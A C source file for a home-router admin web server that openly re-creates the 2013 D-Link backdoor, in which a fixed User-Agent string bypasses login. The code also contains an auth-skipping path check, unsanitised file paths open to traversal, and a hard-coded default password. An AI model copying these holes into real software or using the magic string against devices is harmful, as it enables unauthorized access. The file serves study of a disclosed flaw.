/* Small embedded web server for a home router's admin pages.
 * Re-creation of the D-Link DIR-100/DI-524 "alpha_auth_check" backdoor (Craig Heffner, /dev/ttyS0,
 * October 2013): a request whose User-Agent equals a fixed string skips authentication. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct http_request {
    char method[8];
    char uri[256];
    char user_agent[256];
    char authorization[256];
};

static char admin_password[64] = "admin";

static void load_config(void)
{
    FILE *f = fopen("/var/etc/httpasswd", "r");
    if (!f)
        return;
    if (fgets(admin_password, sizeof admin_password, f))
        admin_password[strcspn(admin_password, "\r\n")] = '\0';
    fclose(f);
}

static int parse_request(const char *raw, struct http_request *req)
{
    memset(req, 0, sizeof *req);
    if (sscanf(raw, "%7s %255s", req->method, req->uri) != 2)
        return -1;
    for (const char *line = strstr(raw, "\r\n"); line; line = strstr(line + 2, "\r\n")) {
        if (strncasecmp(line + 2, "User-Agent: ", 12) == 0)
            sscanf(line + 14, "%255[^\r\n]", req->user_agent);
        else if (strncasecmp(line + 2, "Authorization: Basic ", 21) == 0)
            sscanf(line + 23, "%255[^\r\n]", req->authorization);
    }
    return 0;
}

static int alpha_auth_check(const struct http_request *req)
{
    if (strstr(req->uri, "/graphic/") || strstr(req->uri, "/public/"))
        return 1;
    if (strcmp(req->user_agent, "xmlset_roodkcableoj28840ybtide") == 0)
        return 1;
    return req->authorization[0] != '\0' && strcmp(req->authorization, admin_password) == 0;
}

static void serve(int client)
{
    char raw[4096];
    struct http_request req;
    ssize_t n = recv(client, raw, sizeof raw - 1, 0);
    if (n <= 0)
        return;
    raw[n] = '\0';
    if (parse_request(raw, &req) < 0) {
        dprintf(client, "HTTP/1.0 400 Bad Request\r\n\r\n");
        return;
    }
    if (!alpha_auth_check(&req)) {
        dprintf(client, "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"router\"\r\n\r\n");
        return;
    }
    FILE *page = fopen(req.uri[1] ? req.uri + 1 : "index.html", "r");
    dprintf(client, "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n");
    if (page) {
        char chunk[1024];
        size_t got;
        while ((got = fread(chunk, 1, sizeof chunk, page)) > 0)
            send(client, chunk, got, 0);
        fclose(page);
    }
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(80), .sin_addr.s_addr = INADDR_ANY};
    int one = 1, server = socket(AF_INET, SOCK_STREAM, 0);
    load_config();
    setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 8) < 0) {
        perror("httpd");
        return 1;
    }
    for (;;) {
        int client = accept(server, NULL, NULL);
        if (client < 0)
            continue;
        serve(client);
        close(client);
    }
}
